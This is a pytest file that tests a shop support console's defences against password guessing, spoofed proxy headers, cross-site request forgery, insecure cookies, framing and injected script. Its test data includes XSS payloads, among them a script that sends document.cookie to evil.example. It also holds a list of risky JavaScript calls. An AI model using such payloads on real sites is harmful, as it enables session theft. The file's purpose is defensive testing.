"""Attacks on the support console, each expecting the refusal: password guessing (per account and per address,
behind proxies or not), a forged request from another site, a cookie sent in clear, framing and injected
script, and a throttle grown without bound. (The shop's pages' policy: tests/backends/test_shop_page.py.)"""

import pytest
from fastapi.routing import APIRoute
from starlette.requests import Request

from backends.api.forwarded import client_address, client_used_https
from backends.api.same_origin import origin_of
from backends.api.sign_in_throttle import ACCOUNT_FAILURES_ALLOWED, FAILURES_ALLOWED, WINDOW_SECONDS, SignInThrottle
from backends.settings import ROOT
from tests.backends.support.conftest import PASSWORDS, desk_client, sign_in
from tests.backends.support.rasa_events import Conversation

EVIL = "https://evil.example"


class Clock:
    def __init__(self):
        self.now = 1000.0

    def __call__(self):
        return self.now


def wrong_password(client, username, **headers):
    return client.post("/console/api/login", json={"username": username, "password": "not-the-password"},
                       headers=headers)


def right_password(client, username, **headers):
    return client.post("/console/api/login", json={"username": username, "password": PASSWORDS[username]},
                       headers=headers)


# ------------------------------------------------------------------------------------------- the throttle


def test_the_throttle_locks_an_address_and_forgets_after_the_window():
    clock = Clock()
    throttle = SignInThrottle(clock=clock)
    for _ in range(FAILURES_ALLOWED):
        throttle.failed("amina", "203.0.113.1")
    assert throttle.locked("boris", "203.0.113.1")  # the address, for any account
    assert not throttle.locked("amina", "198.51.100.9")  # one stranger does not lock the agent out
    clock.now += WINDOW_SECONDS + 1
    assert not throttle.locked("amina", "203.0.113.1")
    assert len(throttle.accounts) == len(throttle.addresses) == 0  # expired entries are gone, not just ignored


def test_a_guess_spread_over_many_addresses_locks_the_account():
    throttle = SignInThrottle(clock=Clock())
    for number in range(ACCOUNT_FAILURES_ALLOWED - 1):
        throttle.failed("amina", f"10.1.{number // 256}.{number % 256}")
    assert not throttle.locked("amina", "198.51.100.9")
    throttle.failed("amina", "10.2.0.1")
    assert throttle.locked("amina", "198.51.100.9")  # the account, from anywhere
    assert not throttle.locked("boris", "198.51.100.9")


def test_an_address_trying_one_password_on_many_usernames_is_locked():
    throttle = SignInThrottle(clock=Clock())
    for number in range(FAILURES_ALLOWED):
        throttle.failed(f"user-{number}", "203.0.113.1")
    assert throttle.locked("amina", "203.0.113.1")


def test_signing_in_clears_the_account_but_not_the_address():
    throttle = SignInThrottle(clock=Clock())
    for number in range(FAILURES_ALLOWED - 1):
        throttle.failed(f"victim-{number}", "203.0.113.1")
    throttle.failed("attacker", "203.0.113.1")
    throttle.succeeded("attacker")  # the attacker's own account signs in
    assert throttle.locked("victim-0", "203.0.113.1")


def test_the_throttle_s_memory_is_bounded_the_oldest_forgotten_first():
    clock = Clock()
    throttle = SignInThrottle(capacity=100, clock=clock)
    for number in range(1_000):
        clock.now += 0.01
        throttle.failed(f"user-{number}", f"10.0.{number // 256}.{number % 256}")
    assert len(throttle.accounts) == len(throttle.addresses) == 100
    assert "user-999" in throttle.accounts._failures and "user-0" not in throttle.accounts._failures


def test_a_locked_address_stays_locked_while_failures_keep_coming():
    clock = Clock()
    throttle = SignInThrottle(clock=clock)
    first = clock.now
    for _ in range(FAILURES_ALLOWED):
        throttle.failed("amina", "203.0.113.1")
        clock.now += 60
    clock.now = first + WINDOW_SECONDS + 1  # the first failure has left the window, four remain
    assert not throttle.locked("amina", "203.0.113.1")
    throttle.failed("amina", "203.0.113.1")
    assert throttle.locked("amina", "203.0.113.1")


def test_an_address_guessing_many_usernames_cannot_sign_in_even_with_a_right_password(desk):
    for username in ("admin", "root", "support", "boris", "agent"):
        assert wrong_password(desk, username).status_code == 401
    locked = right_password(desk, "amina")
    assert locked.status_code == 429 and "silkroad_console" not in locked.cookies


# ------------------------------------------------------------------------------------ behind proxies


def request_from(peer, trusted=(), scheme="http", **headers):
    class Settings:
        trusted_proxy_addresses = frozenset(trusted)

    class App:
        state = type("State", (), {"settings": Settings})

    raw = [(name.replace("_", "-").lower().encode(), value.encode()) for name, value in headers.items()]
    return Request({"type": "http", "method": "GET", "path": "/", "headers": raw, "client": (peer, 1234),
                    "scheme": scheme, "server": ("testserver", 80), "query_string": b"", "app": App})


@pytest.mark.parametrize("peer,trusted,forwarded_for,client", [
    ("203.0.113.7", (), "1.2.3.4", "203.0.113.7"),                     # anyone can write X-Forwarded-For
    ("10.0.0.1", ("10.0.0.1",), "203.0.113.7", "203.0.113.7"),
    ("10.0.0.1", ("10.0.0.1",), "6.6.6.6, 203.0.113.7", "203.0.113.7"),  # the client's own claim is left of it
    ("10.0.0.1", ("10.0.0.1", "10.0.0.2"), "203.0.113.7, 10.0.0.2", "203.0.113.7"),  # two proxies
    ("10.0.0.1", ("10.0.0.1",), "", "10.0.0.1"),
    ("::ffff:0:1", ("::ffff:0:0001",), "2001:db8:0:0::1", "2001:db8::1"),  # one spelling per address
])
def test_the_client_address_is_believed_only_from_a_trusted_proxy(peer, trusted, forwarded_for, client):
    headers = {"x_forwarded_for": forwarded_for} if forwarded_for else {}
    assert client_address(request_from(peer, trusted, **headers)) == client


def test_https_is_believed_from_the_request_or_a_trusted_proxy():
    assert client_used_https(request_from("203.0.113.7", scheme="https"))
    assert client_used_https(request_from("10.0.0.1", ("10.0.0.1",), x_forwarded_proto="https"))
    assert not client_used_https(request_from("203.0.113.7", x_forwarded_proto="https"))


def test_behind_a_trusted_proxy_each_client_address_is_throttled_on_its_own(desk_sessions, database_url, fake_rasa):
    with desk_client(desk_sessions, database_url, fake_rasa.url, trusted_proxies="testclient") as desk:
        for username in ("admin", "root", "support", "boris", "agent"):
            wrong_password(desk, username, **{"X-Forwarded-For": "203.0.113.7"})
        assert right_password(desk, "amina", **{"X-Forwarded-For": "203.0.113.7"}).status_code == 429
        assert right_password(desk, "amina", **{"X-Forwarded-For": "198.51.100.2"}).status_code == 200


def test_a_stranger_typing_wrong_passwords_for_an_agent_does_not_lock_them_out(desk_sessions, database_url,
                                                                               fake_rasa):
    with desk_client(desk_sessions, database_url, fake_rasa.url, trusted_proxies="testclient") as desk:
        for _ in range(FAILURES_ALLOWED * 3):
            wrong_password(desk, "amina", **{"X-Forwarded-For": "203.0.113.7"})
        assert right_password(desk, "amina", **{"X-Forwarded-For": "203.0.113.7"}).status_code == 429
        assert right_password(desk, "amina", **{"X-Forwarded-For": "198.51.100.2"}).status_code == 200


def test_a_client_cannot_escape_the_lock_by_writing_x_forwarded_for(desk):
    for number in range(FAILURES_ALLOWED):
        wrong_password(desk, f"user-{number}", **{"X-Forwarded-For": f"198.51.100.{number}"})
    assert right_password(desk, "amina", **{"X-Forwarded-For": "192.0.2.55"}).status_code == 429


# ------------------------------------------------------------------------------------------ the cookie


def test_the_cookie_is_secure_when_the_console_is_reached_over_https(desk_sessions, database_url, fake_rasa, desk):
    assert "secure" not in sign_in(desk, "amina").headers["set-cookie"].lower()  # plain http: the local demo
    with desk_client(desk_sessions, database_url, fake_rasa.url, trusted_proxies="testclient") as proxied:
        answer = right_password(proxied, "amina", **{"X-Forwarded-Proto": "https"})
        assert "; secure" in answer.headers["set-cookie"].lower()
    desk.base_url = "https://testserver"
    assert "; secure" in sign_in(desk, "boris").headers["set-cookie"].lower()


def test_an_untrusted_client_saying_https_gets_no_secure_cookie_it_cannot_use(desk):
    answer = right_password(desk, "amina", **{"X-Forwarded-Proto": "https"})
    assert "secure" not in answer.headers["set-cookie"].lower()


# ---------------------------------------------------------------------------------- the Origin check


def console_posts(app):
    return [route.path.replace("{conversation_id}", "c-1").replace("{number}", "SR-1").replace("{case_number}",
                                                                                                "DS-1")
            for route in app.routes if isinstance(route, APIRoute) and route.path.startswith("/console")
            and "POST" in route.methods]


@pytest.mark.parametrize("headers", [{"Origin": EVIL}, {"Origin": "null"}, {"Origin": "http://testserver.evil"},
                                     {"Origin": "https://testserver"},  # another scheme is another origin
                                     {"Sec-Fetch-Site": "cross-site"}])
def test_every_console_write_from_another_site_is_refused(desk, headers):
    sign_in(desk, "amina")
    paths = console_posts(desk.app)
    assert "/console/api/login" in paths and "/console/api/orders/SR-1/dispute/resolve" in paths
    for path in paths:
        answer = desk.post(path, json={}, headers={**headers, "Idempotency-Key": "k"})
        assert answer.status_code == 403 and "another site" in answer.json()["message"], path
    assert desk.get("/console/api/me").status_code == 200  # not signed out by the forged logout


@pytest.mark.parametrize("headers", [{"Origin": "http://testserver"}, {"Origin": "http://TESTSERVER:80"},
                                     {"Origin": "http://127.0.0.1:8000"},  # the configured public address
                                     {"Sec-Fetch-Site": "same-origin"}, {}])
def test_the_console_s_own_pages_and_non_browser_clients_may_write(desk, headers):
    assert right_password(desk, "amina", **headers).status_code == 200


def test_behind_a_trusted_proxy_the_console_s_origin_is_the_forwarded_one(desk_sessions, database_url, fake_rasa):
    forwarded = {"X-Forwarded-Proto": "https", "X-Forwarded-Host": "console.shop.example"}
    with desk_client(desk_sessions, database_url, fake_rasa.url, trusted_proxies="testclient") as proxied:
        assert right_password(proxied, "amina", Origin="https://console.shop.example", **forwarded).status_code == 200
    with desk_client(desk_sessions, database_url, fake_rasa.url) as direct:  # nobody vouches for those headers
        assert right_password(direct, "amina", Origin="https://console.shop.example", **forwarded).status_code == 403


def test_origins_compare_by_scheme_host_and_port():
    assert origin_of("HTTPS://Console.Example:443/path?q") == "https://console.example"
    assert origin_of("http://[::1]:8000") == "http://[::1]:8000"
    assert origin_of("null") is None and origin_of("javascript:alert(1)") is None
    assert origin_of("http://host:99999") is None
    assert origin_of("http://x; script-src * 'unsafe-eval'") is None  # nothing to write into a header


# ---------------------------------------------------------------------------------- security headers


CONSOLE_POLICY = ("default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self' data:; "
                  "connect-src 'self'; frame-ancestors 'none'; base-uri 'none'; form-action 'self'")


def test_the_console_s_pages_and_answers_carry_its_security_headers(desk):
    answers = [desk.get("/console/login"), desk.get("/console", allow_redirects=False),
               desk.get("/console/static/console.js"), desk.get("/console/api/me"),
               desk.post("/console/api/login", json={}),
               desk.post("/console/api/login", json={}, headers={"Origin": EVIL})]
    sign_in(desk, "amina")
    answers += [desk.get("/console"), desk.get("/console/api/queue")]
    for answer in answers:
        assert answer.headers["content-security-policy"] == CONSOLE_POLICY, answer.url
        assert answer.headers["x-frame-options"] == "DENY"
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["referrer-policy"] == "same-origin"


def test_the_console_s_pages_have_nothing_its_policy_would_block():
    """No inline script, inline style or event-handler attribute in the pages, and nothing in the scripts that
    builds HTML from text or evaluates strings (the policy would block some of it; the rest would be injectable)."""
    for page in (ROOT / "web" / "console").glob("*.html"):
        html = page.read_text()
        for script in html.split("<script")[1:]:
            assert script.split(">", 1)[0].strip().startswith("src="), (page.name, script[:60])
        assert "<style" not in html and " style=" not in html, page.name
        assert not any(f" on{event}=" in html for event in ("click", "load", "error", "submit", "input")), page.name
    for script in ("console.js", "login.js"):
        code = (ROOT / "web" / "static" / script).read_text()
        for risky in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "new Function",
                      "setAttribute(\"style\"", "cssText"):
            assert risky not in code, (script, risky)


@pytest.mark.parametrize("text", ["<img src=x onerror=alert(document.cookie)>",
                                  "</script><script>fetch('https://evil.example/'+document.cookie)</script>"])
def test_a_buyer_s_script_in_a_message_reaches_the_agent_as_text(desk, desk_sessions, text):
    """The transcript is JSON (never HTML) and the page puts each message in a text node (console.js: ``h``
    with ``text``), so the markup is shown, not run."""
    Conversation(desk_sessions, "c-xss").start().user(text, "out_of_scope")
    sign_in(desk, "amina")
    answer = desk.get("/console/api/conversations/c-xss")
    assert answer.headers["content-type"] == "application/json"
    assert [e["text"] for e in answer.json()["events"] if e["kind"] == "user"] == [text]
    code = (ROOT / "web" / "static" / "console.js").read_text()
    assert 'h("div", { class: "bubble", dir: "auto", text: event.text || "" })' in code
    assert 'else if (key === "text") { el.textContent = value; }' in code
